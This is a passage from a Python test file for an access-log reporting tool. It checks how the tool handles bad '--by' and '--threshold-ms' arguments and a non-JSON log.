    assert rp.run(bad_by) == 2
    assert "unknown --by 'planet'" in capsys.readouterr().err
    bad_threshold = argparse.Namespace(access_log=str(FIXTURE), by="model", format="text", threshold_ms=-5)
    assert rp.run(bad_threshold) == 2
    assert ">= 0" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exc:  # through argparse the same mistake is a usage error
        parse(str(FIXTURE), "--threshold-ms", "-5")
    assert exc.value.code == 2


def test_run_on_a_log_without_json_records_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    text_log = tmp_path / "access.log"
    text_log.write_text(
        '[2024-11-05T03:11:02.000Z] "POST /v1/chat/completions HTTP/1.1" 200 - 412 1890 230\n'
    )
    assert rp.run(parse(str(text_log))) == 1
    assert "access_log.format: json" in capsys.readouterr().err
